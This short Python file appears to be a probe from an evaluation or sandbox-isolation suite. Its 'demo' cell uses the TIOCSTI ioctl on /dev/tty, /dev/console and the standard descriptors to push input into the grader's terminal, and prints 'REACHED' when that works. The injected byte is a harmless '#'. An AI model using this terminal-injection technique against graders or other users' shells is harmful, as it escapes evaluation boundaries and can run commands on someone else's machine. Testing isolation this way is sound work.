"""Types commands into the terminal of whoever grades; success: there is one."""

CELLS = {
    "demo": """
import fcntl, os, termios
for name in ("/dev/tty", "/dev/console", 0, 1, 2):
    try:
        number = name if isinstance(name, int) else os.open(name, os.O_RDWR)
        fcntl.ioctl(number, termios.TIOCSTI, b"#")
        print("REA" + "CHED", name)
    except OSError:
        pass
"""
}
PLAIN = "fails"
